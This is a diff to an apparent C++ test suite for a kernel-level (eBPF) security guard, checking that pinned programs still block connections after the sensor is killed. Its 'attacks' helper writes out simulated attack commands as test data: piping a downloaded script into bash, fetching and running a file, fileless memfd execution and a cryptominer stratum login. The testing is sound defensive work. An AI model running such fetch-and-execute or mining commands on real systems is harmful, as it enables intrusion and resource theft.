@@ -4,6 +4,10 @@
 #include <sched.h>
 #include <signal.h>
 #include <sys/mount.h>
+#include <sys/utsname.h>
+
+#include <cstdio>
+#include <utility>
 
 #include "base/files.h"
 #include "chain_site.h"
@@ -23,7 +27,8 @@ std::string attacks(const ChainSite& site, const FakePool& pool)
         "login", "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[\"cpuminer/2.5.1\"]}\n");
     return site.fill("touch @D/inside; until [ -e @D/attack ]; do sleep 0.01; done\n"
                      "curl -s @URL | bash\n"
-                     "curl -s @URL > @D/fetched && touch @D/network_works\n" +
+                     "curl -s -o @D/fetched @URL && touch @D/network_works\n"
+                     "bash @D/fetched\n" +
                      program("live_fileless") + " memfd " + program("live_victim") + " @D v\n" +
                      program("live_stratum_client") + " 127.0.0.1 " + std::to_string(pool.port()) +
                      " " + message + " one @D/result &\n" +
@@ -47,6 +52,16 @@ void hide_pins_from_other_guards()
     ASSERT_EQ(::unshare(CLONE_NEWNS), 0) << errno_text(errno);
     ASSERT_EQ(::mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr), 0) << errno_text(errno);
     ASSERT_EQ(::mount("bpf", "/sys/fs/bpf", "bpf", 0, nullptr), 0) << errno_text(errno);
+}
+
+// Until 6.10 tcp_abort() empties the queue of a connection whose owner is dead, and does not tell the
+// other end.
+bool other_ends_are_told()
+{
+    utsname kernel{};
+    int major = 0, minor = 0;
+    return ::uname(&kernel) == 0 && std::sscanf(kernel.release, "%d.%d", &major, &minor) == 2 &&
+           std::pair(major, minor) >= std::pair(6, 11);
 }
 
 // A guard that starts, and so may take over.
@@ -91,7 +106,9 @@ TEST(Survival, PinnedProgramsBlockAfterTheSensorWasKilled)
     EXPECT_THAT(next.err, HasSubstr("destroyed 1 refused connection"));
     EXPECT_FALSE(exists(pins));
     EXPECT_FALSE(exists(cgroup));
-    EXPECT_TRUE(eventually([&] { return pool.all_ended(); }));
+    if (other_ends_are_told()) {
+        EXPECT_TRUE(eventually([&] { return pool.all_ended(); }));
+    }
     EXPECT_EQ(pool.bytes(), "");
 }
 
